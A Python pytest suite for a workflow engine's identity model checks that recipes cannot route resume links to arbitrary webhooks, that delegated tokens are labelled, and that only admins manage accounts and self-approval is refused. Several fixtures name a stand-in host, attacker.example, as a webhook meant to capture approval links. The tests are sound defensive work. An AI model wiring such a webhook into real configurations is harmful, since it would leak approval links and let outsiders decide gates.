"""Identities are accounts, not names (issue 22, finding 4), attacked through the real doors: the
CLI as root and as another OS account, the HTTP API with bearer tokens, the resume-link ingress
and a real conductor delivering notifications.

- A recipe cannot choose whose resume link goes where: `notify … as:` is refused at validation,
  and a link goes only to a channel its subject registered.
- A token minted by root for alice decides as "alice, via a token minted by root": in the thread,
  the decision and its audit.
- Only an admin mints a token for another account (or adds and removes accounts).
- The person who started a run may not decide its gates, unless the gate allows self-approval.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from engine_adapter.model.identity import os_user
from engine_adapter.model.settings import DATABASE_URL_ENV, HOME_ENV
from engine_adapter.recipes.recipes import RecipeError, load_recipe_text
from engine_adapter.testing import harness
from tests.accounts import checkout_in_reach

GATED = """
slug: gated
steps:
  - id: ship
    human_gate: "Ship it?"
    {extra}
"""


def gated(apply, extra: str = "") -> str:
    return apply(GATED.replace("{extra}", extra))


def cli_as_nobody(url: str, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`threadline ARGS` run by another OS account (nobody) that was given the console's
    database login: it acts as itself, never as the install's admin."""
    if os.geteuid() != 0:
        pytest.skip("needs root to run the CLI as another OS account")
    env = dict(
        os.environ,
        **{DATABASE_URL_ENV: url, HOME_ENV: str(home), "PYTHONDONTWRITEBYTECODE": "1"},
    )
    as_nobody = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
    with checkout_in_reach([*as_nobody, sys.executable, "-m", "engine_adapter.cli", *args]) as (
        argv,
        cwd,
    ):
        return subprocess.run(
            argv,
            env=dict(env, PYTHONPATH=str(cwd)),
            cwd=cwd,
            capture_output=True,
            text=True,
            timeout=60,
        )


def console_api(procs) -> str:
    """A conductor and a console serving the HTTP API; its base URL."""
    procs.start("conductor")
    port = harness.free_port()
    procs.start("console", args=["--port", str(port)])
    base = f"http://127.0.0.1:{port}/api/v1"
    harness.wait_for(
        lambda: harness.answers(base + "/openapi.json"), timeout=90, what="the console"
    )
    return base


def api(base: str, path: str, token: str, body: dict) -> tuple[int, dict]:
    request = urllib.request.Request(
        base + path,
        data=json.dumps(body).encode(),
        method="POST",
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read())


def rows(conn, sql: str, *params) -> list[dict]:
    return conn.execute(sql, params).fetchall()


# -- a recipe never chooses whose link goes where ----------------------------------------------
NOTIFY_AS = """
slug: notify-as
steps:
  - id: ship
    human_gate: "Ship it?"
    approvers: [alice]
notify:
  - when: [gate]
    webhook: https://attacker.example/hook
    as: alice
"""


def test_notify_as_is_refused_at_validation_saying_what_replaces_it(db_url, conn, tmp_path):
    with pytest.raises(RecipeError) as refused:
        load_recipe_text(NOTIFY_AS)
    (error,) = refused.value.errors
    assert error.startswith("notify[0].as:") and "to: [alice]" in error, error
    recipe = tmp_path / "notify-as.yaml"
    recipe.write_text(NOTIFY_AS)
    for command in ("validate", "apply"):
        done = harness.run_cli(db_url, "recipe", command, str(recipe))
        assert done.returncode == 10 and "notify[0].as:" in done.stdout + done.stderr
    assert rows(conn, "select slug from threadline.workflows") == []


def bodies_at(path: str) -> tuple[str, list[dict]]:
    """A webhook receiver on loopback: its URL, and the JSON bodies posted to it."""
    got: list[dict] = []

    class Take(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            got.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Take)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f"http://127.0.0.1:{server.server_address[1]}{path}", got


def test_a_link_goes_only_to_a_channel_its_subject_registered(
    db_url, conn, apply, procs, monkeypatch
):
    monkeypatch.setenv("THREADLINE_NOTIFY_ALLOW", "127.0.0.1")  # the receivers are on loopback
    alices, to_alice = bodies_at("/alice")
    attackers, to_attacker = bodies_at("/attacker")
    added = harness.run_cli(db_url, "user", "add", "alice", "--webhook", alices)
    assert added.returncode == 0, added.stderr
    apply(
        GATED.replace("{extra}", "approvers: [alice]")
        + "notify:\n  - {when: [gate], to: [alice]}\n"
        + f"  - {{when: [gate], webhook: '{attackers}'}}\n"
    )
    procs.start("conductor", env={"THREADLINE_PUBLIC_URL": "http://links.example"})
    from engine_adapter.runs.spawn import spawn

    run_id = spawn(conn, "gated").run_id
    harness.wait_for(lambda: to_alice and to_attacker, timeout=30, what="both notices")
    assert to_alice[0]["threadline"]["links"]["approve"].startswith("http://links.example/resume/")
    assert to_attacker[0]["threadline"]["links"] == {}  # the recipe's webhook: a notice only
    # An outbox row naming alice as the subject of the attacker's URL (as `as: alice` made, or
    # anything else that writes the outbox): sent, but with no link in it.
    key = harness.wait_for_state(procs.url, run_id, "waiting")["gate"]["key"]
    conn.execute(
        "insert into threadline.notifications (run_id, event, event_key, rule, channel, target,"
        " subject, text) values (%s, 'gate', %s, 7, 'webhook', %s, 'alice', 'Ship it?')",
        (run_id, key, attackers),
    )
    harness.wait_for(lambda: len(to_attacker) == 2, timeout=30, what="the forged row's notice")
    assert to_attacker[1]["threadline"]["links"] == {}
    assert "/resume/" not in json.dumps(to_attacker)
    issued = rows(conn, "select subject from threadline.resume_tokens")
    assert issued == [{"subject": "alice"}]  # one link: alice's, on her own channel


# -- a delegated token is visibly delegated ----------------------------------------------------
def test_a_token_minted_by_root_for_alice_decides_visibly_delegated(db_url, conn, apply, procs):
    gated(apply, "approvers: [alice]")
    root = os_user()
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    minted = harness.run_cli(db_url, "token", "create", "alice", "--role", "approver")
    assert minted.returncode == 0, minted.stderr
    assert f"minted by {root}" in minted.stderr
    listed = json.loads(harness.run_cli(db_url, "token", "list", "--json").stdout)
    assert [(t["name"], t["account"], t["minted_by"]) for t in listed] == [("alice", "alice", root)]

    assert harness.run_cli(db_url, "user", "add", "carol").returncode == 0
    carols = harness.run_cli(db_url, "token", "create", "carol", "--role", "operator").stdout

    base = console_api(procs)
    status, started = api(base, "/runs", carols.strip(), {"workflow": "gated"})
    assert status == 200, started
    run_id = started["run_id"]
    opening = harness.wait_for_state(procs.url, run_id, "waiting")["thread"][0]["text"]
    assert f"manually by carol, via a token minted by {root}" in opening
    status, answer = api(base, f"/runs/{run_id}/approve", minted.stdout.strip(), {"reason": "ok"})
    assert status == 200, answer
    view = harness.wait_for_state(procs.url, run_id, "completed")
    shown = f"alice, via a token minted by {root}"
    decision = next(e for e in view["thread"] if e["kind"] == "decision")
    assert decision["author"] == shown
    (entry,) = rows(conn, "select data from threadline.thread_entries where kind = 'decision'")
    assert entry["data"]["minted_by"] == root and entry["data"]["actor"] == "alice"
    assert rows(conn, "select actor, via, minted_by from threadline.decisions") == [
        {"actor": "alice", "via": "api", "minted_by": root}
    ]
    assert rows(conn, "select actor, via, outcome, minted_by from threadline.decision_audit") == [
        {"actor": "alice", "via": "api", "outcome": "decided", "minted_by": root}
    ]
    shown_by_cli = harness.run_cli(db_url, "show", run_id).stdout
    assert shown in shown_by_cli


def test_a_name_with_no_account_matches_nobody_and_a_removed_account_decides_nothing(
    db_url, conn, apply, procs
):
    from engine_adapter.model.identity import Actor
    from engine_adapter.runs import gates
    from engine_adapter.runs.spawn import spawn

    gated(apply, "approvers: [alice]")
    procs.start("conductor")
    run_id = spawn(conn, "gated").run_id
    harness.wait_for_state(procs.url, run_id, "waiting")
    alice = Actor("alice", "console", roles=frozenset({"approver"}))
    # Removed before first use: the name stays unusable until an admin adds it again.
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    assert harness.run_cli(db_url, "user", "remove", "alice").returncode == 0
    with pytest.raises(gates.DecisionRefused, match="account alice was removed"):
        gates.decide(conn, run_id, "approve", alice)
    assert rows(conn, "select * from threadline.decisions") == []
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    gates.decide(conn, run_id, "approve", alice)  # a new account of that name: hers now


# -- only an admin speaks for another account --------------------------------------------------
def test_a_non_admin_cannot_mint_for_another_account_or_manage_accounts(
    db_url, conn, logins, tmp_path
):
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    home = tmp_path / "nobody-home"
    home.mkdir()
    console = logins["console"]
    before = rows(conn, "select count(*) as n from threadline.api_tokens")
    for args in (
        ("token", "create", "alice", "--role", "approver"),
        ("user", "add", "mallory"),
        ("user", "remove", "alice"),
        ("user", "channel", "add", "alice", "--webhook", "https://attacker.example/hook"),
    ):
        refused = cli_as_nobody(console, home, *args)
        assert refused.returncode == 2, (args, refused.stdout, refused.stderr)
        assert "admin action" in refused.stderr, refused.stderr
    assert rows(conn, "select count(*) as n from threadline.api_tokens") == before
    assert rows(conn, "select name from threadline.accounts where removed_at is null") == [
        {"name": "alice"}
    ]
    assert rows(conn, "select * from threadline.account_channels") == []
    # Not even their own channels: the console's login alone changes nothing (migration 045);
    # an account registers its channels through the CLI, which connects as the owner.
    own = cli_as_nobody(console, home, "user", "channel", "add", "nobody", "--email", "n@x.example")
    assert own.returncode != 0, own.stdout
    assert rows(conn, "select * from threadline.account_channels") == []


# -- self-approval -----------------------------------------------------------------------------
def test_the_runs_initiator_may_not_decide_its_gate_unless_it_allows_self_approval(
    db_url, conn, apply, procs
):
    me = os_user()
    gated(apply, f"approvers: [{me}, alice]")
    procs.start("conductor")
    run_id = harness.run_cli(db_url, "spawn", "gated").stdout.strip()
    harness.wait_for_state(procs.url, run_id, "waiting")
    refused = harness.run_cli(db_url, "approve", run_id)
    assert refused.returncode == 2 and f"{me} started this run" in refused.stderr
    thumbs = harness.run_cli(db_url, "reply", run_id, "👍")  # kept, decides nothing
    assert thumbs.returncode == 0
    assert rows(conn, "select * from threadline.decisions") == []
    audit = rows(conn, "select actor, outcome, why from threadline.decision_audit order by id")
    assert [(a["actor"], a["outcome"]) for a in audit] == [(me, "refused"), (me, "refused")]
    assert all("started this run" in a["why"] for a in audit)
    assert harness.wait_for_state(procs.url, run_id, "waiting")["state"] == "waiting"

    gated(apply, f"approvers: [{me}, alice]\n    self_approval: true")
    run_id = harness.run_cli(db_url, "spawn", "gated").stdout.strip()
    harness.wait_for_state(procs.url, run_id, "waiting")
    allowed = harness.run_cli(db_url, "approve", run_id)
    assert allowed.returncode == 0, allowed.stderr
    harness.wait_for_state(procs.url, run_id, "completed")


def test_a_child_runs_gate_refuses_the_person_who_started_its_parent(db_url, conn, apply, procs):
    apply("slug: child-gate\nsteps:\n  - id: ok\n    human_gate: 'Child ok?'\n")
    apply("slug: parent\nsteps:\n  - id: sub\n    workflow: child-gate\n")
    procs.start("conductor")
    parent = harness.run_cli(db_url, "spawn", "parent").stdout.strip()
    child = harness.wait_for(
        lambda: conn.execute(
            "select run_id from threadline.run_threads where parent_run_id = %s and awaiting",
            (parent,),
        ).fetchone(),
        timeout=30,
        what="the child run's gate",
    )["run_id"]
    harness.wait_for_state(procs.url, str(child), "waiting")
    refused = harness.run_cli(db_url, "approve", str(child))
    assert refused.returncode == 2 and "started this run" in refused.stderr


def test_a_resume_tokens_subject_with_no_account_matches_nobody(db_url, conn, apply, procs):
    """A link issued for a bare name (as `notify … as: bob` did) decides as no account, through
    the ingress or `threadline resume` alike, until an account of that name exists."""
    from engine_adapter.runs import resume_tokens
    from engine_adapter.runs.spawn import spawn

    gated(apply, "approvers: [bob]")
    procs.start("conductor")
    run_id = spawn(conn, "gated").run_id
    key = harness.wait_for_state(procs.url, run_id, "waiting")["gate"]["key"]
    token = resume_tokens.issue(conn, run_id, key, "bob", "link").token
    request = json.dumps({"run_id": run_id, "resume_token": token})
    refused = harness.run_cli(db_url, "resume", stdin=request)
    assert refused.returncode == 20 and "bob is not an approver" in refused.stdout
    assert rows(conn, "select * from threadline.accounts") == []  # not made by its use
    assert harness.run_cli(db_url, "user", "add", "bob").returncode == 0
    done = harness.run_cli(db_url, "resume", stdin=request)
    assert done.returncode == 0, done.stdout
    harness.wait_for_state(procs.url, run_id, "completed")


def test_a_resume_link_dies_with_its_account_even_when_the_name_comes_back(
    db_url, conn, apply, procs
):
    """A link issued to alice decides as that account only: once alice is removed it decides
    nothing, and a new account added under the same name does not inherit it."""
    from engine_adapter.runs import resume_tokens
    from engine_adapter.runs.spawn import spawn

    gated(apply, "approvers: [alice]")
    procs.start("conductor")
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    run_id = spawn(conn, "gated").run_id
    key = harness.wait_for_state(procs.url, run_id, "waiting")["gate"]["key"]
    token = resume_tokens.issue(conn, run_id, key, "alice", "link").token
    assert harness.run_cli(db_url, "user", "remove", "alice").returncode == 0
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    request = json.dumps({"run_id": run_id, "resume_token": token})
    refused = harness.run_cli(db_url, "resume", stdin=request)
    assert refused.returncode == 20, refused.stdout
    assert "issued to account alice, which was removed since" in refused.stdout
    assert rows(conn, "select * from threadline.decisions") == []
    assert rows(conn, "select actor, outcome from threadline.decision_audit") == [
        {"actor": "alice", "outcome": "refused"}
    ]
    # The new alice's own link decides.
    fresh = resume_tokens.issue(conn, run_id, key, "alice", "link").token
    done = harness.run_cli(
        db_url, "resume", stdin=json.dumps({"run_id": run_id, "resume_token": fresh})
    )
    assert done.returncode == 0, done.stdout
    harness.wait_for_state(procs.url, run_id, "completed")


def test_a_rerun_recorded_for_someone_else_is_still_its_runners_own(db_url, conn, apply, procs):
    """`--as` records whom an action is for; the run it starts is still its runner's, whose gates
    refuse them."""
    from engine_adapter.model.identity import Actor
    from engine_adapter.runs import gates
    from engine_adapter.runs.spawn import spawn

    gated(apply)
    procs.start("conductor")
    first = spawn(conn, "gated").run_id
    harness.wait_for_state(procs.url, first, "waiting")
    gates.decide(conn, first, "approve", Actor("carol", "console"))
    harness.wait_for_state(procs.url, first, "completed")
    rerun = harness.run_cli(db_url, "rerun", first, "--from", "ship", "--as", "bob", "--json")
    assert rerun.returncode == 0, rerun.stderr
    second = json.loads(rerun.stdout)["run_id"]
    harness.wait_for_state(procs.url, second, "waiting")
    refused = harness.run_cli(db_url, "approve", second)
    assert refused.returncode == 2 and "started this run" in refused.stderr


def test_validate_and_apply_warn_of_names_that_are_no_account(db_url, tmp_path):
    recipe = tmp_path / "ghost.yaml"
    recipe.write_text(
        "slug: ghost\nsteps:\n  - {id: ok, human_gate: 'Go?', approvers: [alice, ghost]}\n"
        "notify:\n  - {when: [gate], to: [casper]}\n"
    )
    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
    for command in ("validate", "apply"):
        done = harness.run_cli(db_url, "recipe", command, str(recipe))
        assert done.returncode == 0, done.stderr
        warned = [line for line in done.stderr.splitlines() if "warning" in line]
        assert len(warned) == 2, done.stderr
        assert "steps[0].approvers: no account named ghost" in warned[0]
        assert "notify[0].to: no account named casper" in warned[1]
